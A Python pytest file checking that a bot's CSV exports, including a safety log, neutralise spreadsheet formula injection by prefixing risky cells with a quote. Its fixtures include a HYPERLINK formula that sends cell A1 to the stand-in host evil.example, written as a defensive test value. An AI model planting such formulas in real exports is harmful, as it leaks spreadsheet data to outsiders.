"""Every CSV the bot or the CLI writes: a cell typed by a person never runs as a formula."""

from __future__ import annotations

import csv
import datetime as dtm
import io

import pytest

from bot import csvcells
from bot.safety import texts as safety_texts
from rota.safety.model import LogEntry

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Sam")',
    "+44 7700 900123",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # leading blanks do not hide one
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_made_text(value: str) -> None:
    assert csvcells.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Sam", "", "St Anne's Hall", "2026-12-02", "19:00", "a=b"])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert csvcells.safe_cell(value) == value


def test_a_row_keeps_numbers_as_numbers() -> None:
    assert csvcells.safe_row(["=1", 3, None, "x"]) == ["'=1", 3, None, "x"]


def test_the_safety_log_csv_escapes_names_and_details() -> None:
    at = dtm.datetime(2026, 12, 2, 19, 30, tzinfo=dtm.UTC)
    entries = [
        LogEntry(id=i, session_id=1, at=at, event="pairs_made", detail=value)
        for i, value in enumerate(FORMULAS, start=1)
    ]
    rows = list(csv.reader(io.StringIO(safety_texts.log_csv(entries, "Europe/London").decode())))
    details = [row[3] for row in rows[1:]]
    assert details == ["'" + value for value in FORMULAS]
    assert rows[1][:3] == ["2026-12-02 19:30:00", "2026-12-02T19:30:00Z", "pairs_made"]
